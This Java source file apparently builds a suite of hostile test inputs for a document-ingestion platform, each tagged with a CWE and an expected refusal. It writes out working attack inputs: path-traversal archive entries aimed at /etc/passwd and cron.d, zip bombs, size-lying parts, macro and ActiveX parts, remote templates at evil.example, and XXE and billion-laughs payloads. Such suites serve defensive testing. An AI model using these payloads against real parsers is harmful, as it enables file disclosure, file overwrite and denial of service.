package guiju.platform.hostile;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/** Packed files that lie about themselves, and those whose XML reaches out. */
final class HostilePackage {

  private static final Map<String, String> MAIN =
      Map.of("docx", "word/document.xml", "xlsx", "xl/workbook.xml", "ofd", "OFD.xml");
  private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><x>1</x>";

  private HostilePackage() {}

  static Archive base(String kind) {
    return new Archive().add("[Content_Types].xml", XML).add(MAIN.get(kind), XML);
  }

  static void structures(String kind, List<HostileFile> all) {
    Map<String, Archive> bad = new LinkedHashMap<>();
    for (String path :
        List.of(
            "../evil",
            "../../../../etc/cron.d/x",
            "a/../../x",
            "/etc/passwd",
            "..\\evil",
            "a\\b",
            "C:/x",
            "C:\\x",
            "x\u0000.xml",
            "x\r\ny",
            "",
            "word/..",
            "..",
            "./../x",
            "\u0001")) {
      bad.put("CWE-22 path " + path.replaceAll("\\p{Cntrl}", "?"), base(kind).add(path, "x"));
    }
    bad.put("CWE-694 the main part twice", base(kind).add(MAIN.get(kind), "<y/>"));
    bad.put(
        "CWE-178 a part twice but for case",
        base(kind).add(MAIN.get(kind).toUpperCase(Locale.ROOT), "<y/>"));
    bad.put("CWE-694 a part twice", base(kind).add("a.xml", XML).add("a.xml", "<y/>"));
    bad.put("CWE-829 macros", base(kind).add("word/vbaProject.bin", "x"));
    bad.put("CWE-829 macros elsewhere", base(kind).add("a/VBAPROJECT.BIN", "x"));
    bad.put(
        "CWE-829 macros by type",
        new Archive()
            .add(
                "[Content_Types].xml",
                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")
            .add(MAIN.get(kind), XML));
    bad.put(
        "CWE-829 template from elsewhere",
        base(kind)
            .add(
                "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));
    bad.put("CWE-409 one part of zeros", base(kind).add("a.bin", new byte[30 << 20]));
    bad.put("CWE-409 zeros under the mark, many", many(kind, 260, new byte[(1 << 20) - 1]));
    bad.put("CWE-409 a part that claims less", base(kind).lying("a.bin", new byte[5 << 20], 100));
    bad.put("CWE-409 a part that claims more", base(kind).lying("a.bin", new byte[100], 5 << 20));
    bad.put("CWE-405 a hundred thousand parts", base(kind).overlapping("p", 100_000, new byte[0]));
    bad.put("CWE-405 overlapping parts", base(kind).overlapping("p", 3_000, noise(1 << 18, 100)));
    bad.put("CWE-354 wrong checksum and length", base(kind).lying("b.bin", noise(1000, 1), 999));
    bad.put("CWE-434 no main part", new Archive().add("[Content_Types].xml", XML));
    bad.put("CWE-434 nothing", new Archive());
    bad.put(
        "CWE-434 behind a page",
        new Archive()
            .startingWith(HostileFile.ascii("<html><script>x()</script>"))
            .add("[Content_Types].xml", XML)
            .add(MAIN.get(kind), XML));
    bad.put(
        "CWE-434 behind a picture",
        new Archive()
            .startingWith(HostileFile.ascii("GIF89a"))
            .add("[Content_Types].xml", XML)
            .add(MAIN.get(kind), XML));
    bad.put(
        "CWE-434 behind a program",
        new Archive()
            .startingWith(HostileFile.ascii("MZ\0\0"))
            .add("[Content_Types].xml", XML)
            .add(MAIN.get(kind), XML));
    bad.put(
        "CWE-434 behind a PDF",
        new Archive()
            .startingWith(HostileFile.PDF)
            .add("[Content_Types].xml", XML)
            .add(MAIN.get(kind), XML));
    bad.forEach(
        (what, file) ->
            all.add(
                new HostileFile(
                    what + " in " + kind,
                    "a." + kind,
                    file.bytes(),
                    HostileFile.Expected.REFUSED)));
    Map<String, Archive> odd = new LinkedHashMap<>();
    odd.put("CWE-59 link", base(kind).link("a", "/etc/passwd"));
    odd.put("CWE-409 files in files", base(kind).add("in." + kind, nested(kind, 6)));
    odd.put(
        "CWE-829 embedded object",
        base(kind)
            .add(
                "word/embeddings/oleObject1.bin",
                HostileFile.bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1)));
    odd.put("CWE-829 embedded program", base(kind).add("word/embeddings/a.exe", "MZ"));
    odd.put("CWE-829 active control", base(kind).add("word/activeX/activeX1.bin", "x"));
    odd.put(
        "CWE-918 external link",
        base(kind)
            .add(
                "xl/externalLinks/_rels/e.xml.rels",
                "<Relationships><Relationship Type=\"x/externalLink\" Target=\"http://evil.example/x\" TargetMode=\"External\"/></Relationships>"));
    odd.put("CWE-354 wrong checksum", base(kind).miscounted("a.bin", noise(100, 3)));
    odd.forEach(
        (what, file) ->
            all.add(
                new HostileFile(
                    what + " in " + kind, "a." + kind, file.bytes(), HostileFile.Expected.EITHER)));
  }

  /** Entities of XML, in the main part and in another, in three encodings. */
  static void markup(String kind, int sink, List<HostileFile> all) {
    String address = "http://127.0.0.1:" + sink + "/xxe";
    Map<String, String> bad = new LinkedHashMap<>();
    bad.put("external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + address + "\">]><x>&e;</x>");
    bad.put(
        "entity of a file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
    bad.put("parameter entity", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"" + address + "\"> %e;]><x/>");
    bad.put("foreign definition", "<!DOCTYPE x SYSTEM \"" + address + "\"><x/>");
    bad.put("public definition", "<!DOCTYPE x PUBLIC \"-//x\" \"" + address + "\"><x/>");
    bad.put(
        "a billion laughs",
        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \""
            + "&a;".repeat(50)
            + "\"><!ENTITY c \""
            + "&b;".repeat(50)
            + "\">]><x>&c;</x>");
    bad.forEach(
        (what, xml) -> {
          all.add(
              file("CWE-611 " + what, kind, xml.getBytes(StandardCharsets.UTF_8), MAIN.get(kind)));
          all.add(
              file(
                  "CWE-611 UTF-16 " + what,
                  kind,
                  xml.getBytes(StandardCharsets.UTF_16),
                  MAIN.get(kind)));
          all.add(
              file(
                  "CWE-611 elsewhere " + what,
                  kind,
                  xml.getBytes(StandardCharsets.UTF_8),
                  "docProps/core.xml"));
        });
  }

  private static HostileFile file(String what, String kind, byte[] xml, String part) {
    Archive archive = new Archive().add("[Content_Types].xml", XML);
    if (!part.equals(MAIN.get(kind))) {
      archive.add(MAIN.get(kind), XML);
    }
    return new HostileFile(
        what + " in " + kind,
        "a." + kind,
        archive.add(part, xml).bytes(),
        HostileFile.Expected.REFUSED);
  }

  private static byte[] nested(String kind, int deep) {
    byte[] inner = base(kind).bytes();
    for (int i = 0; i < deep; i++) {
      inner = base(kind).add("in." + kind, inner).bytes();
    }
    return inner;
  }

  private static Archive many(String kind, int many, byte[] content) {
    Archive archive = base(kind);
    for (int i = 0; i < many; i++) {
      archive.add("p" + i, content);
    }
    return archive;
  }

  private static byte[] noise(int length, long seed) {
    byte[] noise = new byte[length];
    new Random(seed).nextBytes(noise);
    return noise;
  }
}
